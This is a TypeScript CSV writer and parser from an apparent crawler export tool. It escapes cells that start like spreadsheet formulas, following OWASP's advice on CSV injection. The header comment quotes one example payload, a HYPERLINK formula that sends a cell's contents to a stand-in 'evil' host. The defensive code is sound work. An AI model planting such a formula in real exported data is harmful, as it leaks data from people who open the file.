// RFC 4180 CSV, with one convention on top that keeps null and '' apart (the one PostgreSQL's COPY uses): an
// unquoted empty cell is null, a quoted empty cell ("") is the empty string. Lists and any other non-string
// value are written as JSON text, so a cell always round-trips through JSON.parse.
//
// Scraped text is untrusted: a cell such as `=HYPERLINK("http://evil/?x="&A1,"click")` opened in a spreadsheet
// is a live formula (CSV injection). As OWASP advises, a text cell that starts with `=`, `+`, `-`, `@`, a tab or
// a carriage return is written with a single quote before it, which spreadsheets show as text. `raw` keeps cells
// as they are (for a program that reads the CSV, not a spreadsheet): `crawl-studio export --csv-raw`.

const NEEDS_QUOTES = /[",\r\n]/;
/** What a spreadsheet reads as the start of a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;

export interface CsvOptions {
  /** Keep text that starts like a formula as it is (default: prefixed with a single quote). */
  readonly raw?: boolean;
}

export function csvCell(value: unknown, opts: CsvOptions = {}): string {
  if (value === null || value === undefined) return '';
  // Only text is neutralised: a number or a list is written as JSON (`-5`, `["=x"]`), which no spreadsheet runs.
  let text = typeof value === 'string' ? value : JSON.stringify(value);
  if (typeof value === 'string' && !opts.raw && FORMULA_START.test(text)) text = `'${text}`;
  if (text === '' || NEEDS_QUOTES.test(text) || text !== text.trim()) return `"${text.replace(/"/g, '""')}"`;
  return text;
}

/** One record, CRLF-terminated as RFC 4180 asks. */
export function csvRow(values: readonly unknown[], opts: CsvOptions = {}): string {
  return values.map((v) => csvCell(v, opts)).join(',') + '\r\n';
}

/**
 * Parses CSV text into rows of cells; null for an unquoted empty cell. Accepts CRLF or LF line ends. Throws on
 * a quote left open, naming the line.
 */
export function parseCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let i = 0;
  let line = 1;
  const n = text.length;
  if (text.charCodeAt(0) === 0xfeff) i = 1;
  while (i < n) {
    let cell: string | null;
    if (text[i] === '"') {
      const start = line;
      let out = '';
      i++;
      for (;;) {
        if (i >= n) throw new Error(`CSV: quoted cell opened on line ${start} is never closed`);
        const c = text[i]!;
        if (c === '"') {
          if (text[i + 1] === '"') {
            out += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        if (c === '\n') line++;
        out += c;
        i++;
      }
      cell = out;
    } else {
      let j = i;
      while (j < n && text[j] !== ',' && text[j] !== '\n' && text[j] !== '\r') j++;
      cell = j === i ? null : text.slice(i, j);
      i = j;
    }
    row.push(cell);
    if (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
      throw new Error(`CSV: unexpected ${JSON.stringify(text[i])} after a quoted cell on line ${line}`);
    }
    if (text[i] === ',') {
      i++;
      if (i >= n || text[i] === '\r' || text[i] === '\n') row.push(null);
      else continue;
    }
    if (text[i] === '\r') i++;
    if (text[i] === '\n') {
      i++;
      line++;
    }
    rows.push(row);
    row = [];
  }
  return rows;
}
